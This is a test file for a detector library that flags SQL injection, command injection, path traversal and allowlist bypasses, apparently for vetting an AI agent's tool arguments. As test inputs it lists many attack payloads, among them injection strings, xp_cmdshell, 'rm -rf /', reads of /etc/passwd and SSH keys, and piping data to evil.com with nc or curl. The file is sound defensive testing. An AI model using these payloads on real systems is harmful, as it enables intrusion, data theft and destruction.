import { describe, expect, it } from 'vitest';
import {
  detectCommandInjection, detectPathTraversal, detectSqlInjection, isDomainAllowed, isPathAllowed, securityContext,
} from '../../../src/patterns/security.js';

describe('detectSqlInjection', () => {
  it.each([
    "1; DROP TABLE users",
    "x';delete from accounts where 1=1",
    "' OR '1'='1",
    "admin' or 1=1",
    "' or ''='",
    "x' AND 'a'='a",
    "admin'--",
    "admin' /* bypass",
    "1 UNION SELECT username, password FROM users",
    "1 union all select null,null",
    "1; EXEC('shutdown')",
    "1; exec xp_cmdshell 'dir'",
    "1 AND SLEEP(5)",
    "1; WAITFOR DELAY '0:0:5'",
    "SELECT * FROM t INTO OUTFILE '/tmp/x'",
  ])('flags %s', (query) => {
    expect(detectSqlInjection(query)).toBe(true);
  });

  it.each([
    "O'Brien",
    "SELECT name FROM users WHERE name = 'O''Brien'",
    'SELECT name FROM users WHERE id = 1',
    "SELECT * FROM orders WHERE status = 'open' AND total > 100",
    'SELECT * FROM t WHERE a = 1 OR b = 2',
    'SELECT 1;',
    'DELETE FROM sessions WHERE expired = true',
    "UPDATE committees SET name = 'union selection board' WHERE id = 3",
    'SELECT sleeper_count FROM trains',
    'SELECT * FROM orders -- recent ones\nWHERE created_at > now()',
    // A comment inside a query the caller wrote cuts nothing off.
    'SELECT /* primary index */ password FROM users',
  ])('does not flag %s', (query) => {
    expect(detectSqlInjection(query)).toBe(false);
  });

  // The held-out corpus's known misses: tautologies in parentheses and with LIKE, concatenation, case.
  it.each([
    ["') OR ('a'='a", 'tautology inside parentheses'],
    ['1) OR (1=1', 'numeric value in parentheses'],
    ["' OR (1=1)--", 'parenthesised condition'],
    ["1 OR ((('x'='x')))", 'nested parentheses'],
    ["' OR 'a' LIKE 'a", 'LIKE tautology'],
    ["1 OR 'x' LIKE 'x'", 'LIKE tautology, numeric context'],
    ["' OR username LIKE '%", 'LIKE wildcard after a closed literal'],
    ["'||(SELECT version())||'", 'concatenation with a subquery'],
    ["1' || '1'='1", 'concatenation then a comparison'],
    ["adm'||'in", 'concatenation probe'],
    ["' || pg_sleep(10)--", 'concatenation with a delay'],
    ["' oR 1=1 -- -", 'mixed case'],
    ['1 UnIoN SeLeCt 1,2,3', 'mixed-case UNION'],
    ['SELECT * FROM users WHERE id = 1 OR 2 > 1', 'a constant condition in a whole query'],
    ["%27%20OR%20%271%27%3D%271", 'percent-encoded'],
    ['＇ ＯＲ １＝１ －－', 'fullwidth'],
    ['1/**/OR/**/1=1', 'comments as spaces'],
    ['1 /*!50000UNION*/ /*!50000SELECT*/ 1,2', 'MySQL executable comments'],
    ["' or sleep(5)='", 'time-based'],
    ["admin'--", 'comment truncation'],
    ["'; exec master..xp_cmdshell 'dir'--", 'stacked statement'],
    ["' exec sp_addlogin 'eve', 'pw' --", 'SQL Server statement without a semicolon'],
  ])('flags %s (%s)', (query) => {
    expect(detectSqlInjection(query)).toBe(true);
  });

  it.each([
    "the boss' or the team's decision",
    "He said 'yes' or 'no'",
    "James' or Mary's car",
    'Please select one or more options',
    "Drop me a line; I'll update you",
    'Union Square or Times Square?',
    "grep -r 'or' src/",
    'price > 100 and price < 200',
    "SELECT * FROM products WHERE name LIKE '%or%'",
    "SELECT first_name || ' ' || last_name FROM people",
    "SELECT * FROM t WHERE 1=1 AND a = 2",
    'by listening for "--help"',
  ])('does not flag the look-alike %j', (text) => {
    expect(detectSqlInjection(text)).toBe(false);
  });
});

describe('detectCommandInjection', () => {
  it.each([
    'ls; rm -rf /',
    'cat file | nc evil.com 80',
    'sleep 1 && curl evil.com',
    'build & disown',
    'echo `id`',
    'echo $(whoami)',
    'cat < /etc/passwd',
    'echo x > /etc/cron.d/job',
    'ls\nrm -rf /',
    'ls\rid',
    'ls\0id',
    'build & disown',
  ])('flags %j', (command) => {
    expect(detectCommandInjection(command)).toBe(true);
  });

  // The held-out corpus's known misses: separators percent-encoded or CR/LF-encoded.
  it.each([
    ['%0aid', 'encoded newline'],
    ['127.0.0.1%0a%0dwhoami', 'encoded LF CR'],
    ['foo%0d%0acurl%20attacker.example', 'encoded CRLF'],
    ['%3Bid', 'encoded semicolon'],
    ['%26%26 whoami', 'encoded &&'],
    ['%7Cid', 'encoded pipe'],
    ['%60id%60', 'encoded backticks'],
    ['%250aid', 'double-encoded newline'],
    ['x\\r\\nwhoami', 'CR LF written as escapes'],
    ['；id', 'fullwidth semicolon'],
    ["';id;'", 'breaking out of single quotes'],
    ['";id;"', 'breaking out of double quotes'],
    [';cat${IFS}/etc/passwd', '${IFS} instead of a space'],
    ["; w'h'o'am'i", 'quotes inside the command name'],
    [';/???/??t /???/p??s??', 'globbed path'],
    ['echo "$(cat /etc/passwd)"', 'substitution inside double quotes'],
    ['() { :;}; echo vulnerable', 'shellshock'],
    [';system(\'id\')', 'interpreter call'],
  ])('flags %j (%s)', (command) => {
    expect(detectCommandInjection(command)).toBe(true);
  });

  it.each([
    'ls -la /tmp',
    "grep -r 'foo' src",
    'git log --oneline -n 5',
    'cp "report (1).pdf" archive/',
    'convert image.v2.final.png out.jpg',
    "grep 'end$' notes.txt",
    'echo price: 5 USD',
    'find . -name *.ts',
    // Quotes protect what they quote.
    'git commit -m "fix; refactor"',
    // Expanding a variable starts no second command.
    'echo ${HOME}',
    'echo $AWS_REGION',
  ])('does not flag %j', (command) => {
    expect(detectCommandInjection(command)).toBe(false);
  });

  // The held-out corpus's false positives: benign text with parentheses, `$` and quotes.
  it.each([
    'Total: $5 (see above)',
    'It costs $20 (approx.)',
    'He said "hello; goodbye"',
    'Tom & Jerry',
    'R&D budget; see (above)',
    'first; second',
    "it's a dog; cat food",
    'x > 5 and a < b',
    'Price: $5.99 & free shipping',
    'ps aux | grep node',
    '| Id | Name |',
  ])('does not flag the look-alike %j', (text) => {
    expect(detectCommandInjection(text)).toBe(false);
  });
});

describe('detectPathTraversal', () => {
  it.each([
    '../etc/passwd',
    'reports/../../etc/passwd',
    '/etc/passwd',
    '..',
    '..\\..\\windows\\system32',
    'C:\\Windows\\system.ini',
    'c:/boot.ini',
    '~/.ssh/id_rsa',
    '~root/.bashrc',
    '%2e%2e%2fetc%2fpasswd',
    '%252e%252e%252fetc',
    '..%2f..%2fsecret',
    'file.txt\0.png',
    '//server/share',
  ])('flags %j', (path) => {
    expect(detectPathTraversal(path)).toBe(true);
  });

  // The held-out corpus's known misses: overlong UTF-8 and encoded backslashes.
  it.each([
    ['%c0%ae%c0%ae%c0%afetc%c0%afpasswd', 'overlong . and /'],
    ['%e0%80%ae%e0%80%ae/etc/passwd', '3-byte overlong .'],
    ['..%c0%af..%c0%afetc', 'overlong /'],
    ['..%c1%9c..%c1%9cboot.ini', 'overlong \\'],
    ['%c0%2e%c0%2e%c0%5cboot.ini', 'invalid overlong forms old decoders accepted'],
    ['..%5c..%5cwindows%5cwin.ini', 'encoded backslash'],
    ['%2e%2e%5c%2e%2e%5cboot.ini', 'encoded dots and backslash'],
    ['..%255c..%255cboot.ini', 'double-encoded backslash'],
    ['%uff0e%uff0e%u2215etc%u2215passwd', 'IIS %u with fullwidth dots and a division slash'],
    ['．．／．．／etc／passwd', 'fullwidth'],
    ['....//....//etc/passwd', '../ hidden from a filter that strips it once'],
    ['..;/..;/WEB-INF/web.xml', 'Tomcat path parameter'],
    ['https://host/../../etc/passwd', 'a URL that climbs above its root'],
  ])('flags %j (%s)', (path) => {
    expect(detectPathTraversal(path)).toBe(true);
  });

  it.each([
    'reports/2024.q1.csv',
    'file..txt',
    '..hidden/config',
    'archive...old/data.tar.gz',
    './data/file.txt',
    'a/../b',
    'data/./x/../y.json',
    'notes/100%.txt',
    '~$report.docx',
    'reports\\2024\\q1.xlsx',
    'my%20file.txt',
  ])('does not flag %j', (path) => {
    expect(detectPathTraversal(path)).toBe(false);
  });
});

describe('isPathAllowed', () => {
  const allowlist = ['/tmp/agent/', 'out'];

  it.each(['/tmp/agent/report.csv', '/tmp/agent/sub/dir/x', '/tmp/agent', 'out/a.txt', './out/b.txt'])('allows %j', (path) => {
    expect(isPathAllowed(path, allowlist)).toBe(true);
  });

  it.each([
    '/tmp/agent/../secret',
    '/tmp/agent2/x',
    '/tmp/agent/%2e%2e/secret',
    '/etc/passwd',
    'output/a.txt',
    'out/../../etc/passwd',
    '/tmp/agent/x\0',
  ])('refuses %j', (path) => {
    expect(isPathAllowed(path, allowlist)).toBe(false);
  });

  it('refuses everything with an empty allowlist', () => {
    expect(isPathAllowed('/tmp/agent/x', [])).toBe(false);
  });
});

describe('isDomainAllowed', () => {
  const allowlist = ['api.example.com', 'safe-api.com', '*.trusted.org', 'internal.example.com:8443'];

  it.each([
    'https://api.example.com/v1/items',
    'http://api.example.com',
    'https://API.Example.COM/v1',
    'https://api.example.com./v1',
    'https://api.example.com:443/x',
    'https://safe-api.com/?q=1',
    'https://eu.trusted.org/x',
    'https://a.b.trusted.org/x',
    'https://internal.example.com:8443/health',
    // Judged by the host alone: a port or user info before an allowed host does not matter.
    'https://api.example.com:8080/',
    'https://user:pass@api.example.com/',
    'https://evil.com@api.example.com/',
    'https://api.example.com/?q=a b',
  ])('allows %s', (url) => {
    expect(isDomainAllowed(url, allowlist)).toBe(true);
  });

  it.each([
    'https://api.example.com@evil.com/',
    'https://api.example.com.evil.com/',
    'https://evilapi.example.com/',
    'https://notsafe-api.com/',
    'https://trusted.org/', // the wildcard needs a subdomain
    'https://eviltrusted.org/',
    'https://trusted.org.evil.com/',
    'https://evil-trusted.org/',
    'https://internal.example.com/', // listed with :8443 only
    'https://internal.example.com:8080/',
    'ftp://api.example.com/file',
    'file:///etc/passwd',
    'javascript:alert(1)//api.example.com',
    'https:api.example.com',
    ' https://api.example.com',
    'https://api.example.com\\@evil.com',
    'https://evil.com/?redirect=https://api.example.com',
    'https://evil.com#api.example.com',
    'not a url',
    '',
  ])('refuses %j', (url) => {
    expect(isDomainAllowed(url, allowlist)).toBe(false);
  });

  it('compares internationalised names in punycode', () => {
    expect(isDomainAllowed('https://xn--bcher-kva.example/', ['bücher.example'])).toBe(true);
    expect(isDomainAllowed('https://bücher.example/', ['bücher.example'])).toBe(true);
  });
});

describe('securityContext', () => {
  const options = { domainAllowlist: ['api.example.com', 'safe-api.com'] };

  it('always reports audit logging and sets only the keys for the arguments given', () => {
    expect(securityContext({}, options)).toEqual({ audit_logging_enabled: true });
    expect(securityContext(undefined, options)).toEqual({ audit_logging_enabled: true });
    expect(securityContext('SELECT 1', options)).toEqual({ audit_logging_enabled: true });
  });

  it('runs each detector on its argument', () => {
    expect(securityContext({
      query: "' OR '1'='1",
      command: 'ls; id',
      path: '../../etc/passwd',
      url: 'https://api.example.com@evil.com',
    }, options)).toEqual({
      audit_logging_enabled: true,
      contains_sql_injection: true,
      contains_command_injection: true,
      contains_path_traversal: true,
      domain_whitelisted: false,
      domain_approved: false,
    });
    expect(securityContext({
      query: 'SELECT name FROM users WHERE id = 1',
      command: 'ls -la',
      path: 'reports/q1.csv',
      url: 'https://safe-api.com/data',
    }, options)).toEqual({
      audit_logging_enabled: true,
      contains_sql_injection: false,
      contains_command_injection: false,
      contains_path_traversal: false,
      domain_whitelisted: true,
      domain_approved: true,
    });
  });

  it('vets argv-style arrays element by element', () => {
    expect(securityContext({ command: ['ls', '-la'] }, options).contains_command_injection).toBe(false);
    expect(securityContext({ command: ['sh', '-c', 'id; rm -rf /'] }, options).contains_command_injection).toBe(true);
  });

  it('flags arguments it cannot read as text', () => {
    expect(securityContext({ query: { raw: 'x' }, command: 42, path: null, url: 7 }, options)).toMatchObject({
      contains_sql_injection: true,
      contains_command_injection: true,
      contains_path_traversal: true,
      domain_whitelisted: false,
    });
  });

  it('sets path_whitelisted and accepts absolute paths inside the allowlist when given one', () => {
    const withPaths = { ...options, pathAllowlist: ['/tmp/agent'] };
    expect(securityContext({ path: '/tmp/agent/out.csv' }, withPaths)).toMatchObject({ path_whitelisted: true, contains_path_traversal: false });
    expect(securityContext({ path: '/etc/passwd' }, withPaths)).toMatchObject({ path_whitelisted: false, contains_path_traversal: true });
    expect(securityContext({ path: '/tmp/agent/../../etc/passwd' }, withPaths)).toMatchObject({ path_whitelisted: false, contains_path_traversal: true });
    expect(securityContext({ path: 'reports/q1.csv' }, withPaths)).toMatchObject({ path_whitelisted: false, contains_path_traversal: false });
    expect(securityContext({ path: '/tmp/agent/x' }, options)).not.toHaveProperty('path_whitelisted');
    expect(securityContext({ path: '/tmp/agent/x' }, options).contains_path_traversal).toBe(true);
  });
});
